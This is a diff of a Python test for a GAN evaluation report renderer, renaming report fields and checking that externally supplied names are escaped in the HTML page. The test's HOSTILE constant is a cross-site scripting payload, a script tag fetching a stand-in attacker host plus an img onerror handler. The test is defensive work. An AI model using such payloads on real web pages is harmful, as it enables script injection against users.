@@ -1,10 +1,10 @@
-"""Names that somebody else chose, on a page that opens in a reader's browser."""
+"""The report escapes names that come from outside."""
 
 from __future__ import annotations
 
 from evaluations import evaluation
 
-from gan_core.evaluation.report.exhibits import Exhibits
+from gan_core.evaluation.report.contents import ReportContents
 from gan_core.evaluation.report.gallery import ClassRow
 from gan_core.evaluation.report.page import render
 from gan_core.evaluation.report.pictures import Picture
@@ -14,26 +14,26 @@ HOSTILE = "\"'><script>fetch('https://evil.example')</script><img src=x onerror=
 
 def test_what_comes_from_outside_is_text_and_no_markup() -> None:
     picture = Picture("data:image/png;base64,", 1, 1, HOSTILE, HOSTILE)
-    exhibits = Exhibits(
+    contents = ReportContents(
         subtitle=HOSTILE,
         samples=picture,
         real_samples=picture,
-        best=[picture],
-        worst=[picture],
+        most_realistic=[picture],
+        least_realistic=[picture],
         classes=[ClassRow(HOSTILE, 0.5, 0.5, [HOSTILE], picture, picture)],
-        assigned_by="labels",
-        suspects=[],
-        known=HOSTILE,
-        journeys=picture,
-        versus=None,
+        classes_assigned_by="labels",
+        nearest_neighbours=[],
+        known_kind=HOSTILE,
+        interpolations=picture,
+        champion=None,
         charts=[],
-        moments=[(HOSTILE, picture)],
+        training_samples=[(HOSTILE, picture)],
         training=HOSTILE,
         lineage={HOSTILE: HOSTILE},
         parameters={HOSTILE: HOSTILE},
     )
     scored = evaluation(1.0, 0.0, reference=HOSTILE).model_copy(update={"warnings": (HOSTILE,)})
-    page = render(scored, exhibits)
+    page = render(scored, contents)
     assert page.count("&lt;script&gt;") >= 8
     assert "<script" not in page
     assert "<img src=x" not in page
